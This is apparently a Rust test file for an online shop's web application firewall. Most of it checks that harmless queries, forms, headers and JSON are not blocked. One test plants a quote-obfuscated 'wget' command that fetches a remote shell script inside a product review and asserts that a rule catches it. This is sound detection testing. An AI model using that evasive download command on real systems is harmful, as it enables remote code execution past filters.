            "msg=Gift+note%3A%0Aps+-+open+on+the+25th",
            "msg=love%2C%0Aruby+xx",
            "review=great+for+my+hair%0Acurl+cream+works",
            "address=Flat+2%0Adash+house",
            "review=shampoo%0Ahead+%26+shoulders",
            "review=so+soft%0Acat%3B+loves+it",
            "msg=Happy+bday%0Aps+%3C3",
            "review=cheap%0Aless+%2410+than+in+store",
            "msg=note%0Aps+...+dont+peek",
            "msg=note%0Aps+~+xoxo",
            "review=ok%0Atail+%2F+head",
            "msg=note%0Aps+--+open+on+the+25th",
            "review=note%0Amore+-%3E+see+photos",
            "q=gifts+%26+more+-50%25+off",
            "msg=thanks%2C%0Areg",
            "msg=chocolate+cake%0Ayum",
            "q=Diamond+%26+Ruby+earrings",
            "next=%2Fproducts%3Fcat%3D3%26id%3D7",
            "_wp_http_referer=%2Fwp-admin%2Foptions-general.php&redirect_to=%2Fwp-admin%2Fedit.php",
            "site=https%3A%2F%2Fcafe%3A8080%2Fmenu",
            "note=Side+gate%3B+open+from+8am",
            "hours=Mon-Fri+9-18%3B+open+Saturdays",
            "q=kit+include+(2+pcs&back=https%3A%2F%2Fshop.example%2F",
            "snippet=Types%3A%3ATEXT+and+ActiveModel%3A%3AType%3A%3AInteger",
            "css=width%3A+math.div(1%2C+3)",
            "return_url=https%3A%2F%2Fshop.example%2Fdashboard%3Faction%3Dedit%26id%3D123",
            "back=%2Fsearch%3Fq%3Dmugs%26find%3Dall%26more%3D1%26env%3Dprod",
            "q=Gem+%26+Dash",
            "review=Nice+fit%3B+more+photos+soon",
            "q=Type+C%3A+fast+charging",
            "q=USB-A+%26+Type+C%3A+60W",
            "q=gifts+%26+more+-+see+below",
            "review=Great+coat%21%0AMore+photos+soon%0AFind+it+in+blue+too",
            "address=Acme+Ltd%0AHead+Office%0A1+Main+St",
            "q=Storage+Bin%2FAB-12",
            "q=dress+%3C50+eur%2C+pattern+%3D+floral",
            "q=%C2%BD+price+%C2%BE+sleeves",
            "q=M%C3%BCller+%3C%2Fb%3E+%C2%BE+length",
            "file=backup.sql",
            "q=gifts+%26+more",
            "q=tea+%7C+more",
            "q=name+%26+id+bracelet",
            "q=sale+%26+reg+price",
            "q=size+(M)+(fits+large)",
            "q=smile+%3A)+(me%3Dhappy)",
            "q=get+the+look+http+guide",
            "q=recycling+bin%2Fsorting+set",
            "q=approx+~5+cm",
            "q=alias+grace+novel",
            "q=%22Quote%22!+Next+sentence",
            "q=5%27+10%22+tall+model",
            "q=price+in+%24+or+%E2%82%AC",
            "q=window+location+sticker",
            "cursor=b25zYWxlPXRydWUmcGFnZT0y%3D",
            "q=time+machine",
            "q=python+book",
            "q=curl+cream",
            "q=ruby+ring",
            "uname=john+doe&format=lastlog",
            "q=nice+shirt",
            "q=env+friendly+bottle",
            "q=sizes+%3CS+M+L%3E",
            "q=i+%3C3+my+new+coat",
            "q=user+(guest)+checkout",
            "q=what+size+am+I%3F+(UK)",
            "q=search+engine+tips",
            "q=%245+(sale)+gift+card",
            "q=file+a+claim%3F",
            "q=what+is+https%3F",
            "q=(smile)+like+(me)",
            "q=reunion+-+select+a+gift+from+us",
            "q=order+4294",
        ];
        for query in queries {
            let verdict = verdict(Some(query), None, browser);
            assert!(
                !verdict.blocked,
                "{query} was blocked by {:?}",
                verdict.matches
            );
        }
        let forms = [
            "email=ada%40example.com&name=Ada+O%27Brien&address=1+Main+St%3B+Apt+2&card_token=tok_visa",
            "name=Jean-Luc+Picard&address=12+Rue+de+l%27%C3%89glise&email=jl%40example.fr",
            "comment=I+love+it%21+5%2F5+would+buy+again+%3A-%29",
            "description=Soft+%26+warm%2C+100%25+wool.+Machine+wash+%28cold%29.",
            "description=%3Cp%3EHours%3A%26nbsp%3BOpen+daily%3C%2Fp%3E",
            "description=Easy+clean+%26amp%3B+open+design",
        ];
        for form in forms {
            let verdict = verdict(None, Some(form), browser);
            assert!(
                !verdict.blocked,
                "{form} was blocked by {:?}",
                verdict.matches
            );
        }
        // A PHP shop's own pages, behind `securecart proxy --waf`.
        let mut headers = HeaderMap::new();
        headers.insert("user-agent", browser.parse().expect("value"));
        for (path, query) in [
            ("/wp-login.php", Some("redirect_to=%2Fmy-account%2F")),
            (
                "/wp-admin/admin-ajax.php",
                Some("action=get_refreshed_fragments"),
            ),
            ("/index.php", Some("route=product%2Fproduct&product_id=42")),
            ("/checkout.php", None),
        ] {
            let verdict = judged("GET", path, query, &headers, b"");
            assert!(!verdict.blocked, "{path} {:?}", verdict.matches);
        }
        // JSON with HTML in a product description, as an admin would post it.
        let mut headers = HeaderMap::new();
        headers.insert("content-type", "application/json".parse().expect("value"));
        headers.insert("user-agent", browser.parse().expect("value"));
        let body = br#"{"name":"Winter coat","description":"<p>Warm <b>and</b> light.</p><ul><li>Wool</li></ul>","price_cents":12900,"tags":["women's","coats"]}"#;
        let verdict = judged("POST", "/api/cart/items", None, &headers, body);
        assert!(!verdict.blocked, "{:?}", verdict.matches);
        // A Referer to a catalogue's last page, cookies named like handlers, and a
        // product description in HTML with `¾` and `ü` after a closing tag.
        let mut headers = HeaderMap::new();
        headers.insert("user-agent", browser.parse().expect("value"));
        headers.insert(
            "referer",
            "https://shop.example/catalog?page=last&q=knife+%7C+set"
                .parse()
                .expect("value"),
        );
        headers.insert(
            "baggage",
            "onboarding=1,online=true".parse().expect("value"),
        );
        headers.insert("x-csrf-token", "k9Zq1T0aX+onXyzq=".parse().expect("value"));
        headers.insert(
            "cookie",
            "session=abc123; onboarding=done".parse().expect("value"),
        );
        headers.insert("content-type", "application/json".parse().expect("value"));
        let body = "{\"description\":\"<p>Wool</p> \u{be} sleeves, by M\u{fc}ller <div data-pattern=\\\"stripes\\\">\"}";
        let verdict = judged("POST", "/api/products", None, &headers, body.as_bytes());
        assert!(!verdict.blocked, "{:?}", verdict.matches);
    }

    /// A long text that begins with a command hidden by shell quotes is blocked, whether
    /// the prefix search finds the command (in the text's first bytes) or leaves the text
    /// to the whole search (after more spaces than the prefix holds); the same text
    /// without the command passes.
    #[test]
    fn a_long_text_that_begins_with_a_hidden_command_is_blocked() {
        let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";
        let review = "Lovely wool coat, warm and light. The sleeves are long for me (I'm 1.60 m). "
            .repeat(8);
        let command = "w'g'et http://203.0.113.9/x.sh ";
        let after_spaces = format!("{}{command}", " ".repeat(80));
        for (start, rule) in [
            ("", None),
            (command, Some("SC-CMD-010")),
            (&after_spaces, Some("SC-CMD-010")),
        ] {
            let form = form_urlencoded::Serializer::new(String::new())
                .append_pair("review", &format!("{start}{review}"))
                .finish();
            let verdict = verdict(None, Some(&form), browser);
            assert_eq!(
                verdict.terminating_rule.as_deref(),
                rule,
                "{start:?}: {:?}",
                verdict.matches
            );
        }
    }
}
